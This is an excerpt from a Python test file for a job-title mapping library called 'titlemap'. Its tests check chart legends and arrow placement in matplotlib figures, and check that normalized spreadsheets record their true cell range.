    from matplotlib.patches import FancyArrowPatch, FancyBboxPatch

    from titlemap import plot

    drawn: set[str] = set()
    for p in ax.patches:
        color = to_hex(p.get_edgecolor())
        if isinstance(p, FancyArrowPatch):
            if color == plot._RULE:
                drawn.add("crosswalk rule")
            elif color == plot._RULE_CONDITIONAL:
                drawn.add("rule with conditions")
            elif color == plot._LATERAL:
                drawn.add("lateral move")
            elif color == plot._PROMOTION:
                drawn.add("promotion")
        elif isinstance(p, FancyBboxPatch) and color == plot._RULE:
            drawn.add("reads differently")
    legend = ax.get_legend()
    return drawn, [t.get_text() for t in legend.get_texts()] if legend is not None else []


def test_the_key_of_a_company_figure_lists_only_what_it_draws() -> None:
    pytest.importorskip("matplotlib")
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from titlemap.plot import draw_comparison, draw_ladder

    tm = titlemap.TitleMap.default()
    companies = [lad.id for lad in tm.ladders() if lad.kind == "company"]
    figures = [draw_ladder(tm.ladder(c)) for c in companies[:4]]
    figures += [draw_comparison(ladders) for ladders in (companies[:2], companies[:1], ["us", companies[0]])]
    try:
        for ax in figures:
            drawn, keyed = _drawn_and_keyed(ax)
            for label in ("promotion", "lateral move", "crosswalk rule", "rule with conditions"):
                assert (label in keyed) == (label in drawn), (ax.get_title(), label, keyed)
            differs = any(k.startswith("reads differently") for k in keyed)
            assert differs == ("reads differently" in drawn), (ax.get_title(), keyed)
    finally:
        plt.close("all")


def test_02_a_written_copy_declares_the_sheets_real_extent(run: Any, tmp_path: Any) -> None:
    # an inflated tag (every cell of the sheet) is not kept: the copy's tag is what it holds
    import re
    import zipfile

    openpyxl = pytest.importorskip("openpyxl")
    from _workbooks import patch

    src = _book(tmp_path / "wide.xlsx", [["id", "title"], [1, "Senior PM"], [2, "APM"], [3, "Group PM"]])
    patch(src, {"xl/worksheets/sheet1.xml": lambda x: re.sub(
        rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', x)})  # fmt: skip
    out = tmp_path / "out.xlsx"
    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
    assert code == 0, err
    with zipfile.ZipFile(out) as book:
        tag = re.search(rb'<dimension ref="([^"]*)"', book.read("xl/worksheets/sheet1.xml"))
    sheet = openpyxl.load_workbook(out, read_only=True).active
    header = next(sheet.iter_rows(values_only=True))
    last = openpyxl.utils.get_column_letter(len(header))
    assert tag is not None and tag.group(1) == f"A1:{last}4".encode()
    assert (sheet.max_row, sheet.max_column) == (4, len(header))


def test_rule_arrows_start_and_end_at_their_own_boxes() -> None:
    """draw_comparison(["in", "us"]): each rule's arrow leaves its from-rung's box and reaches its
    to-rung's box at their edges, passes through no box, and the numbers stand apart."""
    pytest.importorskip("matplotlib")
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from matplotlib.patches import FancyArrowPatch, FancyBboxPatch

    from titlemap.plot import draw_comparison

    tm = titlemap.TitleMap.default()
    rules = {rule.id: rule for rule in tm.rules}
    ax = draw_comparison(["in", "us"])
    try:
        ax.figure.canvas.draw()
        boxes = {p.get_gid(): p for p in ax.patches if isinstance(p, FancyBboxPatch)}
        arrows = [p for p in ax.patches if isinstance(p, FancyArrowPatch)]
        assert len(arrows) == len(rules) and all(str(a.get_gid()).startswith("rule:") for a in arrows)

        def on_edge(point: Any, patch: Any) -> bool:
            x0, y0, w, h = patch.get_x(), patch.get_y(), patch.get_width(), patch.get_height()
            x, y = point
            inside = x0 - 0.02 <= x <= x0 + w + 0.02 and y0 - 0.02 <= y <= y0 + h + 0.02
            return inside and min(abs(x - x0), abs(x - x0 - w), abs(y - y0), abs(y - y0 - h)) <= 0.03

        def strictly_inside(point: Any, patch: Any) -> bool:
            x0, y0, w, h = patch.get_x(), patch.get_y(), patch.get_width(), patch.get_height()
            return x0 + 0.03 < point[0] < x0 + w - 0.03 and y0 + 0.03 < point[1] < y0 + h - 0.03

        for arrow in arrows:
            rule = rules[arrow.get_gid().removeprefix("rule:")]
            points = [tuple(pt) for pt in arrow.get_path().vertices]  # the line, then the head
            assert on_edge(points[0], boxes[f"box:{rule.from_}"]), (rule.id, points[0])
            assert any(on_edge(p, boxes[f"box:{rule.to}"]) for p in points[1:]), rule.id  # the head's tip
            points = [tuple(pt) for poly in arrow.get_path().to_polygons(closed_only=False) for pt in poly]
            crossed = [gid for gid, b in boxes.items() if any(strictly_inside(p, b) for p in points)]
            assert not crossed, (rule.id, crossed)
        renderer = ax.figure.canvas.get_renderer()
        numbers = [t.get_bbox_patch().get_window_extent(renderer) for t in ax.texts if t.get_text().isdigit()]
        assert len(numbers) == len(rules)
        touching = [(i, j) for i, a in enumerate(numbers) for j, b in enumerate(numbers[:i]) if a.overlaps(b)]
        assert not touching, touching
    finally:
        plt.close("all")
